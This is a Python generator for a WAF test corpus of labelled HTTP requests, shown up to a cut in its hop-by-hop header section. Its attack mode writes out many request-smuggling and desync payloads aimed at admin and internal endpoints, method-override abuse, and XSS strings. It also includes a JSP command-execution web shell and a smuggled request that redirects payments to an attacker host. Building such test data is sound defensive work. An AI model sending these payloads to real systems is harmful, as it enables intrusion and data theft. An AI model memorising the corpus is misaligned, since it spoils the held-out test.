#!/usr/bin/env python3
"""Held-out corpus "httpsem": HTTP semantics at the edges, as a sidecar proxy sees them.

What it is
    A deterministic generator (stdlib only, fixed seed) of labelled HTTP requests in the
    JSONL shape of /work/shared/corpora/README.md. It measures Palisade on traffic that is
    legal-but-unusual HTTP (benign) and on attacks that live in HTTP framing, headers,
    routing and caching rather than in application parameters (attacks).

Benign mode
    Legitimate traffic that real browsers, SDKs, CDNs, proxies and monitors send:
    absolute-form targets, OPTIONS *, CORS preflights, HEAD, conditional requests
    (If-None-Match lists, If-Modified-Since, If-Match, If-Range), Range requests
    (multi-range, suffix), Expect: 100-continue uploads, chunked uploads with chunk
    extensions and trailers (aws-chunked, git, log shippers; raw_b64), gzip request
    bodies (raw_b64), long cookies and tokens, Cache-Control/Pragma variants,
    Via/Forwarded/X-Forwarded-* chains and CDN headers (Cloudflare, Fastly, Akamai,
    CloudFront, ALB, Google LB, Azure Front Door, Envoy), Accept q-values, tracing
    headers (traceparent, baggage, b3), Prefer, Link, Idempotency-Key, legitimate method
    overrides (X-HTTP-Method-Override, Rails/Laravel _method, Salesforce _HttpMethod),
    PATCH/PUT/DELETE APIs, matrix parameters, encoded slashes in IDs, percent-encoded
    UTF-8 paths, long analytics query strings, repeated/empty/semicolon parameters,
    odd header casing, HTTP/1.0 clients, health checks, Prometheus scrapes, WebSocket
    upgrades, webhooks, signed URLs and so on. About 15 % is category "dev-content":
    developers posting HTTP transcripts, curl commands, proxy configs and raw requests
    into support tickets, forums, docs pages and chat.

Attacks mode
    Request smuggling and desync (CL.TE, TE.CL, TE.TE with obfuscated Transfer-Encoding,
    duplicate/malformed Content-Length, chunk-size tricks, 0.CL/Expect, CL.0, pipelined and
    HTTP/0.9 requests in bodies, h2c and WebSocket upgrade smuggling), host header attacks,
    web cache poisoning and cache deception, method override abuse, CRLF header injection
    and response splitting, obs-fold and bare CR/LF, hop-by-hop header abuse, path
    normalisation tricks, oversized/malformed headers, open redirects, IP spoofing
    headers and scanner probes (403-bypass header sprays, smuggling and CRLF scanners).
    Categories: protocol, protocol-attack, crlf, lfi, generic, scanner.

Written blind
    This generator was written without reading the Palisade rule set, its sources, its
    tests or test data, and without reading the other corpus generators; the WAF was not
    built or run while writing it. Requests come from general knowledge of real traffic
    and of published attack techniques. All hosts are example names or documentation
    addresses, except internal addresses that are themselves the payload of an attack.

Run
    python3 scripts/corpus-httpsem.py attacks > rulesets/tests/data/httpsem-attacks.jsonl
    python3 scripts/corpus-httpsem.py benign  > rulesets/tests/data/httpsem-benign.jsonl
"""

import base64
import gzip
import hashlib
import json
import random
import sys
import zlib
from email.utils import formatdate
from urllib.parse import quote, urlencode

SET = "httpsem"
SEED = 0x48545053  # "HTPS"


# ---------------------------------------------------------------------------
# corpus plumbing
# ---------------------------------------------------------------------------

class Corpus:
    def __init__(self, mode):
        self.mode = mode
        self.items = []
        self.counters = {}
        self.R = random.Random(SEED if mode == "attacks" else SEED + 1)

    def _id(self, kind):
        n = self.counters.get(kind, 0) + 1
        self.counters[kind] = n
        if kind == "dev-content":
            return "%s/%s/dev-content/%03d" % (SET, self.mode, n)
        return "%s/%s/%s-%03d" % (SET, self.mode, kind, n)

    def _expect(self):
        return "detect" if self.mode == "attacks" else "pass"

    def add(self, kind, category, method, uri, headers, body=None, version="HTTP/1.1"):
        hs = [[str(k), str(v)] for k, v in headers]
        names = [k.lower() for k, _ in hs]
        if body is not None and "content-length" not in names and "transfer-encoding" not in names:
            cl = ["Content-Length", str(len(body.encode("utf-8")))]
            if "content-type" in names:
                hs.insert(names.index("content-type") + 1, cl)
            else:
                hs.append(cl)
        obj = {
            "id": self._id(kind),
            "set": SET,
            "category": category,
            "expect": self._expect(),
            "method": method,
            "uri": uri,
            "version": version,
            "headers": hs,
        }
        if body is not None:
            obj["body"] = body
        self.items.append(obj)

    def raw(self, kind, category, data):
        self.items.append({
            "id": self._id(kind),
            "set": SET,
            "category": category,
            "expect": self._expect(),
            "raw_b64": base64.b64encode(data).decode("ascii"),
        })


def rawreq(reqline, lines, body=b""):
    """Build raw request bytes. "{CL}" in a header line becomes the byte length of body."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    out = []
    for line in lines:
        if isinstance(line, bytes):
            out.append(line)
        else:
            out.append(line.replace("{CL}", str(len(body))).encode("utf-8"))
    return reqline.encode("utf-8") + b"\r\n" + b"\r\n".join(out) + b"\r\n\r\n" + body


def chunk(data, ext=""):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return ("%x%s\r\n" % (len(data), ext)).encode("ascii") + data + b"\r\n"


def blen(s):
    return len(s.encode("utf-8"))


# ---------------------------------------------------------------------------
# shared vocabulary
# ---------------------------------------------------------------------------

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 16_7_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"
ACCEPT_HTML_FF = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
ACCEPT_IMG = "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"

LANGS = [
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
    "ja,en-US;q=0.9,en;q=0.8",
    "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
    "zh-CN,zh;q=0.9,zh-TW;q=0.8,en;q=0.6",
    "es-419,es;q=0.9",
    "nl-NL,nl;q=0.9,en-GB;q=0.8,en;q=0.7",
    "en-GB,en;q=0.9",
    "sv-SE,sv;q=0.9,en;q=0.8,nb;q=0.6,da;q=0.5",
    "pl,en-US;q=0.7,en;q=0.3",
    "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7",
]

SITES = [
    "www.example.com", "shop.example.com", "api.example.com", "app.example.net",
    "portal.example.org", "accounts.example.com", "blog.example.org", "cdn.example.net",
    "status.example.com", "intranet.example.org", "pay.example.net", "media.example.com",
]

ATTACK_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.122 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.112 Safari/537.36",
    "curl/8.4.0",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "python-httpx/0.27.0",
    "Go-http-client/1.1",
    "Wget/1.21.3",
]


def hexs(R, n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def alnum(R, n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(R.choice(alphabet) for _ in range(n))


def uuid4(R):
    h = hexs(R, 32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], R.choice("89ab"), h[17:20], h[20:32])


def docip(R):
    return "%s.%d" % (R.choice(["192.0.2", "198.51.100", "203.0.113"]), R.randint(2, 254))


def httpdate(R):
    return formatdate(R.randint(1672531200, 1717200000), usegmt=True)


def b64url(data):
    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")


def jwt(R, claims):
    head = b64url(json.dumps({"alg": "RS256", "typ": "JWT", "kid": hexs(R, 16)}, separators=(",", ":")).encode())
    body = b64url(json.dumps(claims, separators=(",", ":")).encode())
    sig = b64url(bytes(R.randrange(256) for _ in range(256)))
    return "%s.%s.%s" % (head, body, sig)


# ---------------------------------------------------------------------------
# attacks
# ---------------------------------------------------------------------------

def ahdr(R, host, ua=None, accept="*/*", extra=()):
    h = [["Host", host], ["User-Agent", ua or R.choice(ATTACK_UAS)], ["Accept", accept]]
    for k, v in extra:
        h.append([k, v])
    return h


def attacks_smuggling(c):
    R = c.R

    def ua():
        return R.choice(ATTACK_UAS)

    # ---- CL.TE: front end honours Content-Length, back end honours chunked
    clte = [
        ("/", "www.example.com", "GET /admin HTTP/1.1\r\nX-Ignore: X"),
        ("/search", "shop.example.com", "G"),
        ("/api/v1/feedback", "api.example.com",
         "GET /admin/delete?username=carlos HTTP/1.1\r\nHost: localhost\r\nX-Ignore: X"),
        ("/post/comment", "blog.example.org",
         "POST /post/comment HTTP/1.1\r\nHost: blog.example.org\r\nContent-Type: application/x-www-form-urlencoded\r\n"
         "Content-Length: 800\r\nCookie: session=1bJ5yX0rTq7aWm2cKp9sLd4f\r\n\r\ncsrf=Zm9vYmFy&postId=7&name=x&email=x%40example.org&comment="),
        ("/login", "accounts.example.com",
         "GET /post?postId=5 HTTP/1.1\r\nUser-Agent: \"><script>alert(document.cookie)</script>\r\n"
         "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 5\r\n\r\nx=1"),
        ("/contact", "portal.example.org", "GET /internal/metrics HTTP/1.1\r\nHost: 127.0.0.1:9090\r\n\r\n"),
        ("/cart", "shop.example.com", "GET /home HTTP/1.1\r\nHost: evil.example.net\r\nX-Ignore: X"),
        ("/graphql", "app.example.net",
         "GET /api/v1/users?role=admin HTTP/1.1\r\nX-Forwarded-For: 127.0.0.1\r\nX-Ignore: x"),
        ("/newsletter", "www.example.com",
         "POST /admin/users HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 44\r\n\r\n"
         "{\"username\":\"eve\",\"role\":\"administrator\"}"),
    ]
    for i, (path, host, smug) in enumerate(clte):
        lead = "3\r\nx=1\r\n" if i in (3, 7) else ""
        body = lead + "0\r\n\r\n" + smug
        hs = ["Host: " + host, "User-Agent: " + ua(), "Content-Type: application/x-www-form-urlencoded"]
        if i % 2:
            hs += ["Transfer-Encoding: chunked", "Content-Length: {CL}"]
        else:
            hs += ["Content-Length: {CL}", "Transfer-Encoding: chunked"]
        if i % 3 == 0:
            hs.append("Connection: keep-alive")
        c.raw("cl-te", "protocol", rawreq("POST %s HTTP/1.1" % path, hs, body))

    # ---- TE.CL: front end honours chunked, back end honours a short Content-Length
    tecl = [
        ("/", "www.example.com",
         "GPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1"),
        ("/search", "shop.example.com",
         "GET /admin HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 10\r\n\r\nx="),
        ("/api/v2/ping", "api.example.com",
         "POST /admin/delete HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
         "Content-Length: 30\r\n\r\nusername=carlos&confirm=1"),
        ("/feedback", "portal.example.org",
         "GET /404pls HTTP/1.1\r\nX-Foo: x\r\nContent-Length: 144\r\n\r\nx="),
        ("/login", "accounts.example.com",
         "POST /login HTTP/1.1\r\nHost: accounts.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\n"
         "Content-Length: 700\r\n\r\nusername=attacker&password=x&captured="),
        ("/", "intranet.example.org",
         "GET /internal/debug/vars HTTP/1.1\r\nHost: 10.0.0.12\r\nContent-Length: 3\r\n\r\nx="),
        ("/checkout", "pay.example.net",
         "PUT /api/config/payment-gateway HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
         "Content-Length: 60\r\n\r\n{\"endpoint\":\"https://evil.example.org/collect\"}"),
        ("/account", "www.example.com",
         "GET /account?id=1 HTTP/1.1\r\nCookie: session=attacker-controlled\r\nContent-Length: 20\r\n\r\nx="),
        ("/static/upload", "media.example.com",
         "GET /?x=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: media.example.com\r\nContent-Length: 10\r\n\r\nx="),
    ]
    for i, (path, host, smug) in enumerate(tecl):
        first = chunk(smug)
        body = first + b"0\r\n\r\n"
        short = len(first.split(b"\r\n", 1)[0]) + 2
        hs = ["Host: " + host, "User-Agent: " + ua(), "Content-Type: application/x-www-form-urlencoded",
              "Content-Length: %d" % short, "Transfer-Encoding: chunked"]
        if i % 2:
            hs[3], hs[4] = hs[4], hs[3]
        c.raw("te-cl", "protocol", rawreq("POST %s HTTP/1.1" % path, hs, body))

    # ---- TE.TE: both honour chunked, one can be made to ignore an obfuscated header
    tete = [
        (["Transfer-Encoding: xchunked"], "GET /admin/users HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        (["Transfer-Encoding : chunked"], "POST /api/internal/reindex HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n\r\n"),
        (["Transfer-Encoding: chunked", "Transfer-Encoding: x"], "GET /server-status HTTP/1.1\r\nHost: localhost\r\nX: "),
        (["Transfer-Encoding:\tchunked"], "GET /actuator/env HTTP/1.1\r\nX-Ignore: "),
        (["X-Pad: 1", " Transfer-Encoding: chunked"],
         "DELETE /api/v1/users/1 HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer stolen-token\r\n\r\n"),
        (["X: X\nTransfer-Encoding: chunked"], "GET /wp-admin/ HTTP/1.1\r\nHost: localhost\r\nFoo: x"),
        (["Transfer-Encoding\n: chunked"], "GET /console HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\n"),
        (["Transfer-Encoding: chunked, cow"], "GET /assets/app.js HTTP/1.1\r\nHost: evil.example.org\r\nX-Ignore: x"),
        (["Transfer-Encoding: \x0bchunked"],
         "POST /admin/settings HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 40\r\n\r\n"
         "allow_registration=1&default_role=admin"),
        (["Transfer-Encoding: \"chunked\""], "GET /private/export.csv HTTP/1.1\r\nX-Forwarded-For: 10.0.0.1\r\nX: "),
        (["Transfer_Encoding: chunked"],
         "GET /manager/html HTTP/1.1\r\nHost: localhost:8080\r\nAuthorization: Basic dG9tY2F0OnRvbWNhdA==\r\n\r\n"),
        (["Transfer-Encoding: chunk"], "GET /?search=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E HTTP/1.1\r\nX: "),
        (["Transfer-Encoding:\r\n chunked"], "GET /internal/healthz/debug HTTP/1.1\r\nHost: 10.1.2.3\r\n\r\n"),
        (["Transfer-Encoding: identity", "Transfer-Encoding: cHuNkEd"], "OPTIONS /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ]
    paths = ["/", "/search", "/api/v1/events", "/login", "/comments", "/", "/subscribe", "/api/track",
             "/contact-us", "/", "/index.jsp", "/help", "/ws/health", "/cart/add"]
    for i, (te, smug) in enumerate(tete):
        host = SITES[i % len(SITES)]
        hs = ["Host: " + host, "User-Agent: " + ua(), "Content-Type: application/x-www-form-urlencoded"]
        if i % 3 == 2:
            # TE.CL flavour
            first = chunk(smug)
            body = first + b"0\r\n\r\n"
            hs += ["Content-Length: %d" % (len(first.split(b"\r\n", 1)[0]) + 2)] + te
        else:
            body = "0\r\n\r\n" + smug
            hs += ["Content-Length: {CL}"] + te
        c.raw("te-te-obfuscated", "protocol", rawreq("POST %s HTTP/1.1" % paths[i], hs, body))

    # ---- chunk-size and chunk-extension tricks
    tricks = [
        ("/api/v1/import", True,
         "0" * 90 + "1\r\nA\r\n0\r\n\r\nGET /admin/users/export HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("/upload", False,
         "ffffffffffffffff1\r\nx\r\n0\r\n\r\nPOST /admin/users HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n"),
        ("/api/v2/batch", True,
         "2;\nxx\r\n47\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nContent-Length: 40\r\n\r\n0\r\n\r\n"),
        ("/comment", True, "5 \r\nx=123\r\n0 \r\n\r\nGET /internal/flags HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
        ("/search", True, "-1\r\nq\r\n0\r\n\r\nGET /actuator/heapdump HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("/api/events", True, "0x5\r\nx=123\r\n0\r\n\r\nGET /admin/export HTTP/1.1\r\nX: x"),
        ("/api/v1/upload", False,
         "3\r\nx=1\r\n0\r\nX-Forwarded-For: 127.0.0.1\r\nX-Original-URL: /admin\r\n\r\n"),
        ("/form", True, "3\nx=1\n0\n\nGET /admin/audit-log HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
        ("/ingest", False, "3;" + "a" * 4000 + "\r\nx=1\r\n0\r\n\r\n"),
    ]
    for i, (path, with_cl, body) in enumerate(tricks):
        hs = ["Host: " + SITES[(i + 3) % len(SITES)], "User-Agent: " + ua(),
              "Content-Type: application/x-www-form-urlencoded", "Transfer-Encoding: chunked"]
        if with_cl:
            hs.append("Content-Length: {CL}")
        if path == "/api/v1/upload":
            hs.append("Trailer: X-Forwarded-For, X-Original-URL")
        c.raw("chunk-size-trick", "protocol", rawreq("POST %s HTTP/1.1" % path, hs, body))

    # ---- duplicate / malformed Content-Length
    dupcl = [
        (["Content-Length: 0", "Content-Length: {CL}"], "GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        (["Content-Length: 0, {CL}"], "GET /admin/users?action=export HTTP/1.1\r\nX: x"),
        (["Content-Length: +{CL}"], "POST /api/admin/keys HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n\r\n"),
        (["Content-length: 4", "Content-Length: {CL}"], "GET /internal/status HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        (["Content-Length: 0000000{CL}"], "GET /wp-json/wp/v2/users HTTP/1.1\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n"),
        (["Content-Length: {CL}", "Content-Length : 0"], "GET /debug/pprof/ HTTP/1.1\r\nHost: localhost:6060\r\n\r\n"),
    ]
    for i, (cl, body) in enumerate(dupcl):
        hs = ["Host: " + SITES[(i + 5) % len(SITES)], "User-Agent: " + ua(),
              "Content-Type: application/x-www-form-urlencoded"] + cl
        c.raw("duplicate-content-length", "protocol", rawreq("POST /%s HTTP/1.1" % ["", "search", "api/v1/log", "contact", "comment", "subscribe"][i], hs, body))

    # ---- 0.CL / Expect based desync
    c.raw("zero-cl-expect", "protocol", rawreq("POST /api/v1/upload HTTP/1.1", [
        "Host: media.example.com", "User-Agent: " + ua(), "Content-Type: application/octet-stream",
        "Expect: y 100-continue", "Content-Length: {CL}"],
        "GET /admin HTTP/1.1\r\nHost: localhost\r\nX: "))
    c.raw("zero-cl-expect", "protocol", rawreq("GET /static/js/app.js HTTP/1.1", [
        "Host: www.example.com", "User-Agent: " + ua(), "Content-Length:\r\n {CL}"],
        "GET /internal HTTP/1.1\r\nHost: 10.0.0.7\r\nX: y"))
    c.raw("zero-cl-expect", "protocol", rawreq("POST /resources/tracking HTTP/1.1", [
        "Host: shop.example.com", "User-Agent: " + ua(), "Content-Type: text/plain",
        "Expect:\r\n 100-continue", "Content-Length: {CL}"],
        "POST /my-account/change-email HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        "Content-Length: 30\r\n\r\nemail=eve%40evil.example"))

    # ---- malformed framing aimed at parser differentials
    c.raw("malformed-framing", "protocol", rawreq("GET / HTTP/1.1", [
        "Host: www.example.com\x00.evil.example.net", "User-Agent: " + ua(), "Accept: */*"]))
    c.raw("malformed-framing", "protocol", rawreq("POST /api/v1/notes HTTP/1.1", [
        "Host: app.example.net", "User-Agent: " + ua(), "Content-Type: application/json",
        "Transfer-Encoding\x00: chunked", "Content-Length: {CL}"],
        "0\r\n\r\nGET /admin/api-keys HTTP/1.1\r\nHost: localhost\r\n\r\n"))
    c.raw("malformed-framing", "protocol", rawreq("GET /admin HTTP/1.1", [
        "Host: intranet.example.org", "User-Agent: " + ua(), "X Forwarded For: 127.0.0.1", "Accept: */*"]))
    c.raw("malformed-framing", "protocol", rawreq("GET\t/admin/config\tHTTP/1.1", [
        "Host: portal.example.org", "User-Agent: " + ua(), "Accept: */*"]))
    c.raw("malformed-framing", "protocol", rawreq("POST /contact HTTP/1.1", [
        "Host: www.example.com", "User-Agent: " + ua(), "Content-Type: application/x-www-form-urlencoded",
        "Content-Length: {CL}", "Transfer-Encoding chunked"],
        "0\r\n\r\nGET /admin/backup.tar.gz HTTP/1.1\r\nX: x"))
    c.raw("malformed-framing", "protocol", rawreq("GET /api/search HTTP/1.1", [
        "Host: api.example.com", "User-Agent: " + ua(), "Accept: application/json", "Transfer-Encoding: chunked"],
        "0\r\n\r\nGET /api/admin/tokens HTTP/1.1\r\nHost: localhost\r\n\r\n"))

    # ---- CL.0: body ignored by the back end on endpoints that take no body
    cl0 = [
        ("/resources/images/blog.svg", "blog.example.org", "GET /admin/delete?username=carlos HTTP/1.1\r\nFoo: x"),
        ("/favicon.ico", "www.example.com", "GET /internal/config HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("/robots.txt", "shop.example.com", "GET /admin HTTP/1.1\r\nX-Ignore: "),
        ("/static/css/site.css", "app.example.net",
         "POST /api/v1/admin/users HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 44\r\n\r\n"
         "{\"email\":\"eve@evil.example\",\"role\":\"admin\"}"),
        ("/.well-known/security.txt", "portal.example.org", "GET /hopefully404 HTTP/1.1\r\nFoo: x"),
        ("/assets/logo.png", "accounts.example.com",
         "GET /account/email?new=eve%40evil.example HTTP/1.1\r\nX: x"),
    ]
    for i, (path, host, body) in enumerate(cl0):
        method = "GET" if i == 5 else "POST"
        c.add("cl-0", "protocol-attack", method, path, ahdr(R, host, extra=[
            ("Content-Type", "application/x-www-form-urlencoded"), ("Connection", "keep-alive")]), body)

    # ---- pipelined requests and HTTP/0.9 request lines inside bodies
    pipe = [
        ("POST", "/", "www.example.com", "text/plain", "GET /admin\r\n"),
        ("POST", "/api/echo", "api.example.com", "text/plain", "GET /internal/config.json\r\n\r\n"),
        ("POST", "/search", "shop.example.com", "application/x-www-form-urlencoded",
         "q=shoes\r\n\r\nGET /admin/orders?all=1 HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("GET", "/", "portal.example.org", "text/plain",
         "GET /account HTTP/1.1\r\nHost: portal.example.org\r\n\r\nGET /admin/users?export=1 HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("POST", "/rpc", "app.example.net", "application/octet-stream",
         "HEAD /admin HTTP/1.1\r\nHost: localhost\r\n\r\nGET /secret/keys.txt HTTP/1.0\r\n\r\n"),
    ]
    for method, path, host, ctype, body in pipe:
        c.add("pipelined-in-body", "protocol-attack", method, path, ahdr(R, host, extra=[
            ("Content-Type", ctype), ("Connection", "keep-alive")]), body)

    # ---- h2c / WebSocket upgrade smuggling
    settings = "AAMAAABkAARAAAAAAAIAAAAA"
    c.add("h2c-smuggling", "protocol-attack", "GET", "/api/internal/flag", ahdr(R, "api.example.com", extra=[
        ("Upgrade", "h2c"), ("HTTP2-Settings", settings), ("Connection", "Upgrade, HTTP2-Settings")]))
    c.add("h2c-smuggling", "protocol-attack", "POST", "/upload", ahdr(R, "media.example.com", extra=[
        ("Content-Type", "application/x-www-form-urlencoded"), ("Upgrade", "h2c"),
        ("HTTP2-Settings", "AAMAAABkAAQCAAAAAAIAAAAA"), ("Connection", "Upgrade, HTTP2-Settings")]), "x=1")
    c.add("h2c-smuggling", "protocol-attack", "GET", "/admin", ahdr(R, "intranet.example.org", extra=[
        ("Upgrade", "h2c"), ("Connection", "Upgrade")]))
    c.add("h2c-smuggling", "protocol-attack", "GET", "/internal/", ahdr(R, "www.example.com", extra=[
        ("X-Forwarded-Proto", "https"), ("Upgrade", "h2c"), ("HTTP2-Settings", settings),
        ("Connection", "Upgrade, HTTP2-Settings")]))
    c.add("h2c-smuggling", "protocol-attack", "GET", "/private/", ahdr(R, "portal.example.org", extra=[
        ("Upgrade", "H2C"), ("HTTP2-Settings", "AAEAABAAAAIAAAABAAQAAP__AAUAAEAA"),
        ("Connection", "upgrade, http2-settings, keep-alive")]))
    c.add("websocket-smuggling", "protocol-attack", "GET", "/socket.io/?EIO=4&transport=websocket",
          ahdr(R, "app.example.net", extra=[("Upgrade", "websocket"), ("Connection", "Upgrade"),
                                            ("Sec-WebSocket-Version", "1337"),
                                            ("Sec-WebSocket-Key", "nf6dB8Pb/BLinZ7UexUXHg==")]))
    c.add("websocket-smuggling", "protocol-attack", "POST", "/api/health-check?url=http://localhost:5000/ws",
          ahdr(R, "status.example.com", extra=[("Content-Type", "application/json"), ("Upgrade", "websocket"),
                                                ("Connection", "Upgrade"), ("Sec-WebSocket-Version", "13"),
                                                ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")]),
          "{\"target\":\"http://127.0.0.1:5000/internal/ws\"}")


def attacks_methods_hops(c):
    R = c.R
    ov = [
        ("GET", "/api/v1/users/1042", [("X-HTTP-Method-Override", "DELETE")], None),
        ("GET", "/admin/users/17?_method=DELETE", [], None),
        ("POST", "/admin/accounts/99", [("Content-Type", "application/x-www-form-urlencoded")], "_method=PUT&role=admin&active=1"),
        ("GET", "/api/projects/7", [("X-HTTP-Method", "DELETE")], None),
        ("GET", "/api/orders/5521", [("X-Method-Override", "PUT"), ("Content-Type", "application/json")],
         "{\"status\":\"refunded\",\"amount\":0}"),
        ("POST", "/api/files/avatar", [("X-HTTP-Method-Override", "PUT"), ("Content-Type", "application/octet-stream")],
         "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
        ("GET", "/index.php?_method=TRACE", [], None),
        ("GET", "/api/v2/tenants/3", [("X-HTTP-Method-Override", "CONNECT")], None),
        ("GET", "/admin/cache", [("X-HTTP-Method-Override", "PURGE")], None),
        ("GET", "/webdav/", [("X-HTTP-Method-Override", "PROPFIND"), ("Depth", "infinity")], None),
        ("HEAD", "/api/v1/invoices/88", [("X-HTTP-Method-Override", "DELETE")], None),
        ("GET", "/api/v1/users/me", [("Content-Type", "application/json")], "{\"_method\":\"DELETE\",\"id\":1}"),
        ("GET", "/api/v1/users/me?_method=PATCH&is_admin=true", [], None),
        ("POST", "/api/v1/roles/1", [("X-HTTP-Method-Override", "GET, DELETE"), ("Content-Type", "application/json")], "{}"),
        ("GET", "/default.aspx", [("X-HTTP-Method-Override", "DEBUG"), ("Command", "stop-debug")], None),
        ("GET", "/static/js/app.js?cb=73419", [("X-HTTP-Method-Override", "POST")], None),
        ("GET", "/api/admin/users/5?_method=delete&__method=delete", [("X-Original-Method", "DELETE")], None),
    ]
    for method, uri, extra, body in ov:
        c.add("method-override-abuse", "protocol-attack", method, uri,
              ahdr(R, R.choice(SITES), accept="application/json, */*", extra=extra), body)

    c.add("trace-xst", "protocol-attack", "TRACE", "/", ahdr(R, "www.example.com", extra=[
        ("Cookie", "session=7f3a9c2e1b; csrftoken=Zk9vYmFy"), ("Max-Forwards", "0")]))
    c.add("trace-xst", "protocol-attack", "TRACK", "/index.html", ahdr(R, "blog.example.org"))
    c.add("trace-xst", "protocol-attack", "TRACE", "/api/session", ahdr(R, "api.example.com", extra=[
        ("Authorization", "Bearer " + hexs(R, 40)), ("Via", "1.1 <script>alert(1)</script>")]))
    c.add("cache-purge", "protocol-attack", "PURGE", "/static/js/app.js", ahdr(R, "cdn.example.net"))

    hop = [
        ("/admin", "close, X-Forwarded-For"),
        ("/api/internal/users", "keep-alive, X-Real-IP"),
        ("/dashboard", "close, X-Auth-User, X-Authenticated-Email"),
        ("/?cb=9921", "Cookie"),
        ("/api/v1/upload", "close, Content-Length"),
        ("/login", "keep-alive, X-Forwarded-Proto"),
        ("/account/reset", "close, X-Forwarded-Host, X-Forwarded-Server"),
        ("/internal/metrics", "keep-alive, X-Amzn-Trace-Id, X-Forwarded-For"),
        ("/admin/logs", "close, CF-Connecting-IP, True-Client-IP"),
        ("/api/payments", "Keep-Alive, Authorization"),
        ("/static/app.css", "close, Transfer-Encoding"),
    ]
    for path, conn in hop:
        extra = [("Connection", conn)]
        if "Keep-Alive" in conn:
            extra.append(("Keep-Alive", "timeout=5, max=1000"))
